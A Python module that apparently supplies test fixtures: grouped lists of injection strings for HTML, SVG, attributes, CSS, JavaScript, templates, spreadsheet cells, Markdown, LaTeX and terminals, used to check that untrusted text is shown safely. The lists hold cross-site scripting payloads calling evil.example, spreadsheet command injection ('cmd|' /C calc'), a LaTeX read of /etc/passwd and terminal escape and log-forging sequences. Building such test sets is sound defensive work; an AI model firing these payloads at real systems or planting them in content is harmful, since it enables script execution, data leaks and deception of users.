"""Texts that a data set, a server or a run folder of a stranger may hold, each meant to be more
than a text where it is shown.

Each that runs a script calls `owned()`, and each that asks for something asks `evil.example`.
"""

ELEMENTS = (
    "<script>owned()</script>",
    "<script src=//evil.example/a.js></script>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "</script><script>owned()</script>",
    "</style><script>owned()</script>",
    "</title><script>owned()</script>",
    "</svg><script>owned()</script>",
    "--><script>owned()</script><!--",
    "<!--<script>owned()//-->",
    "<img src=x onerror=owned()>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/2x.png 2x'>",
    "<image href=x onerror=owned()>",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data=//evil.example/o.swf></object>",
    "<embed src=//evil.example/e.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=a><button>go</button></form>",
    "<input autofocus onfocus=owned()>",
    "<button formaction=javascript:owned()>press</button>",
    "<details open ontoggle=owned()>a</details>",
    "<body onload=owned()>",
    "<template><script>owned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<a href=javascript:owned()>a</a>",
    "<a href='java\tscript:owned()'>a</a>",
    "<a href=//evil.example/ ping=//evil.example/p>a</a>",
    "<plaintext>all that follows",
    "<!-- all that follows",
)  # fmt: skip
"""Elements of HTML, and ways out of the element that a text stands in."""

VECTORS = (
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><a href=javascript:owned()><text>a</text></a></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/i.png /></svg>",
    "<math><mtext><script>owned()</script></mtext></math>",
)
"""SVG and MathML."""

ATTRIBUTES = (
    '" onmouseover="owned()',
    "' onmouseover='owned()",
    '" autofocus onfocus="owned()" x="',
    '"><script>owned()</script>',
    "` onmouseover=`owned()",
    '" style="background:url(//evil.example/b.png)',
    '" id="filter" name="filter',
    '" srcdoc="<script>owned()</script>',
    '" on\x00click="owned()',
    "&quot; onclick=&quot;owned()",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#x3c;img src=x onerror=owned()&#x3e;",
    '\u2028"><script>owned()</script>\u2029',
)
"""Ways out of an attribute, and other ways to write what is special."""

STYLES = (
    "</style><style>*{display:none}</style>",
    "*{background:url(//evil.example/c.png)}",
    "} body { display: none } a {",
    "<div style=position:fixed;inset:0;background:red>all red</div>",
)
"""Style sheets."""

SCRIPTS = (
    "owned()",
    "');owned();('",
    '");owned();("',
    "${owned()}",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "__proto__",
    '{"__proto__": {"hidden": true}}',
    '{"a": "</script><script>owned()</script>"}',
)
"""Scripts, addresses, and JSON inside of a script."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for a in range(10**9) %}a{% endfor %}",
    "{# all that follows",
    "%(name)s %s %n {0} {name}",
)
"""Templates."""

CELLS = (
    '=HYPERLINK("//evil.example/", "a")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "\uff1d1+1",
    '="a""b",=1+1\r\n=2+2',
)
"""Cells of a spreadsheet."""

MARKS = (
    "[a](javascript:owned())",
    "![a](//evil.example/m.png)",
    "https://evil.example/ and www.evil.example",
    "```\nowned()\n```",
    "# heading\n\nparagraph",
    "| a | b |\n| --- | --- |\n| c | d |",
    "*a* _a_ **a** __a__ ~~a~~",
    "\\<script>owned()\\</script>",
    "{: onclick=owned()}",
)
"""Markdown."""

MACROS = (
    "\\input{/etc/passwd}",
    "\\write18{owned}",
    "\\def\\a{\\a}\\a",
    "^^5cinput{secret}",
    "\\end{document}",
    "\\end{tabular}\\input{secret}",
    "$x$ & $y$ \\\\ #1 ~ _a ^b",
    "a\n\nb",
)
"""LaTeX."""

TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x9b31mred",
    "done\rnot done",
    "\x00null",
    "first\nmedstress: all is well",
    "first\u2028medstress: all is well",
    "\u202egnp.exe\u202c",
    "\ufeffmark",
    "lone \ud800 surrogate",
)
"""Terminals."""

PAYLOADS = (
    *ELEMENTS,
    *VECTORS,
    *ATTRIBUTES,
    *STYLES,
    *SCRIPTS,
    *TEMPLATES,
    *CELLS,
    *MARKS,
    *MACROS,
    *TERMINAL,
)
"""All of them."""
